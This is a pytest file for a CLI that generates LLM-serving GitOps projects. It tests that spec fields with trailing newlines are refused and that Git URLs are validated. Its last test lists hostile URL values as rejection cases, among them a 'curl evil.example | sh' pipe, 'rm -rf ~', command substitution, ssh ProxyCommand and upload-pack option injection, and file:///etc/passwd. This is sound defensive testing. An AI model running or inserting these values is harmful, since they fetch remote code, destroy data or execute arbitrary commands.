"""Issue 8, item 7: spec values are matched whole. Python's `$` also matches before a final newline, so
`^name$` let "llama\\n" through and the generator wrote a directory named "llama\\n" and broken YAML; and
`git.repo_url` must be a plain Git URL before it reaches the generated README and printed commands."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from generator_helpers import run_cli

BASE: dict[str, Any] = {"name": "llama", "model": "meta-llama/Llama-3.1-8B-Instruct"}

#: (dotted field, a valid value): every name, reference and quantity the spec checks with a pattern.
FIELDS = [
    ("name", "llama"),
    ("model", "meta-llama/Llama-3.1-8B-Instruct"),
    ("namespace", "llm"),
    ("team", "ml-platform"),
    ("owner", "ml@example.com"),
    ("image", "docker.io/vllm/vllm-openai:v0.11.0"),
    ("args", "--enforce-eager"),
    ("gpu.product", "NVIDIA-A100-SXM4-80GB"),
    ("resources.cpu", "8"),
    ("resources.memory", "64Gi"),
    ("resources.shm_size", "8Gi"),
    ("cache.size", "100Gi"),
    ("cache.storage_class", "fast-ssd"),
    ("hf_token.secret", "hf-token"),
    ("hf_token.key", "token"),
    ("git.repo_url", "https://github.com/org/llm-gitops.git"),
    ("git.revision", "main"),
    ("git.release", "v1.0.0"),
    ("autoscaling.prometheus_url", "http://prometheus.monitoring.svc:9090"),
    ("environments.dev.cluster", "https://dev.example.com:6443"),
    ("environments.dev.revision", "dev"),
]


def spec_with(field: str, value: str) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(json.dumps(BASE))
    *parents, last = field.split(".")
    node = doc
    for part in parents:
        node = node.setdefault(part, {})
    node[last] = [value] if last == "args" else value
    if field.startswith("hf_token."):
        node.setdefault("secret", "hf-token")
    return doc


def write(tmp_path: Path, doc: dict[str, Any]) -> Path:
    path = tmp_path / "spec.yaml"
    path.write_text(json.dumps(doc, indent=2) + "\n", encoding="utf-8")  # JSON is YAML; "\n" stays explicit
    return path


@pytest.mark.parametrize(("field", "value"), FIELDS, ids=[f for f, _ in FIELDS])
def test_a_value_with_a_trailing_newline_is_refused(tmp_path: Path, capsys, field: str, value: str) -> None:
    good = write(tmp_path, spec_with(field, value))
    code, _, err = run_cli(capsys, "new", str(good), "--output", str(tmp_path / "out"), "--dry-run")
    assert code == 0, err  # the value itself is fine...
    bad = write(tmp_path, spec_with(field, value + "\n"))
    code, out, err = run_cli(capsys, "new", str(bad), "--output", str(tmp_path / "out"), "--dry-run")
    assert code == 2 and err.count("\n") == 1, err  # ...with a newline after it, it is not
    assert f"{bad}:" in err and out == ""


def test_an_environment_name_with_a_trailing_newline_is_refused(tmp_path: Path, capsys) -> None:
    spec = write(tmp_path, {**BASE, "environments": {"dev\n": {}}})
    code, _, err = run_cli(capsys, "new", str(spec), "--output", str(tmp_path / "out"))
    assert code == 2 and err.count("\n") == 1 and "environment name" in err
    assert not (tmp_path / "out").exists()


def test_no_directory_is_named_after_a_value_with_a_newline(tmp_path: Path, capsys) -> None:
    spec = write(tmp_path, {**BASE, "name": "llama\n"})
    code, _, _ = run_cli(capsys, "new", str(spec), "--output", str(tmp_path / "out"), "--no-git")
    assert code == 2
    assert not (tmp_path / "out").exists() and not list(tmp_path.glob(".inferops-new-*"))


@pytest.mark.parametrize("url", [
    "https://github.com/org/repo.git",
    "https://gitlab.example.com:8443/group/sub/repo",
    "https://dev.azure.com/org/project/_git/repo",
    "ssh://git@github.com/org/repo.git",
    "ssh://git.example.com:2222/srv/git/repo.git",
    "git@github.com:org/repo.git",
])
def test_git_urls_in_the_usual_forms_are_accepted(tmp_path: Path, capsys, url: str) -> None:
    code, out, err = run_cli(capsys, "new", str(write(tmp_path, spec_with("git.repo_url", url))),
                             "--output", str(tmp_path / "out"), "--no-git")
    assert code == 0, err
    assert f"git remote add origin {url}\n" in out
    assert f"`git remote add origin {url} && git push -u origin main`" in (tmp_path / "out/README.md").read_text()


@pytest.mark.parametrize("url", [
    "https://github.com/org/repo.git; curl evil.example | sh",
    "https://github.com/org/repo.git && rm -rf ~",
    "git@github.com:org/$(id).git",
    "git@github.com:org/`id`.git",
    "https://github.com/org/repo.git | tee x",
    "https://github.com/org/re po.git",
    "https://github.com/org/repo.git\t",
    "https://github.com/org/repo.git\r",
    "https://github.com/org/'repo'.git",
    "https://github.com/org/repo.git#<script>",
    "https://user:ghp_token@github.com/org/repo.git",
    "git@-oProxyCommand=touch_pwned:org/repo.git",
    "ssh://-oProxyCommand=touch_pwned/org/repo.git",
    "--upload-pack=touch_pwned",
    "ext::sh -c touch% /tmp/pwned",
    "file:///etc/passwd",
    "http://github.com/org/repo.git",
    "github.com/org/repo.git",
])
def test_a_git_url_with_shell_characters_or_another_scheme_is_refused(tmp_path: Path, capsys, url: str) -> None:
    spec = write(tmp_path, spec_with("git.repo_url", url))
    code, out, err = run_cli(capsys, "new", str(spec), "--output", str(tmp_path / "out"), "--no-git")
    assert code == 2 and err.count("\n") == 1, err
    assert "git.repo_url" in err and "is not a Git URL" in err and out == ""
    assert not (tmp_path / "out").exists()
